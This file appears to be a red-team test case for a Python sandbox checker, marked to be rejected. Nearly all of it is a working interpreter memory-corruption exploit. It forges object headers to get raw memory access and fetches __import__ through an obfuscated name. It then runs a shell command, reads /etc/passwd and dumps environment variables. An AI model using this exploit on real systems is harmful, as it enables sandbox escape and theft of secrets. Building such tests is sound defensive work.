# expect: reject memory
# line: 38
# why: round 99b (red team near miss): `cls.name = property(namer)` in __init_subclass__, whose first parameter is the new class, not an instance: a parameter the interpreter fills with a class is taken for one where a held-text name is stored
import io

L = []
G = []
KEEP = []
HDR = []
ENC = "utf-8"


def q(v):
    return v.to_bytes(8, "little")


class Box:
    __slots__ = ("__dict__", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n")


def namer(obj):
    if True:
        if L:
            L.clear()
            buf = bytearray(159)
            buf[0:len(HDR[0])] = HDR[0]
            KEEP.append(buf)
            return "sink"
        G.append(obj)
        KEEP[0][104:152] = q(id(bytearray)) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
        raise KeyError("done")


class Base:
    __slots__ = ()

    def __init_subclass__(cls):
        cls.name = property(namer)


class Grab(Base):
    __slots__ = ()



class Sink(Base):
    closed = False

    def readable(self):
        return True

    def writable(self):
        return True

    def seekable(self):
        return False




victim = Box()
base = id(victim) - 32
HDR.append(
    q(0) + q(0) + q(0) + q(0)
    + q(1 << 40) + q(id(io.TextIOWrapper)) + q(1) + q(8192)     # a TextIOWrapper at 32: ok=1, detached=0
    + q(base + 96) + q(id(ENC)) + q(0) + q(0)                    # its buffer: the Grab at 96
    + q(1 << 40) + q(id(Grab))                                   # a Grab at 96
)
wrapper = io.TextIOWrapper(Sink(), encoding="utf-8")
L.append(slice(wrapper, victim))
victim = None
try:
    text = repr(L)
except Exception:
    pass
mem = G[0]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
KEEP[0][104:144] = q(id(list)) + q(1) + q(base + 136) + q(1) + q(bdict)
table = G[0][0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
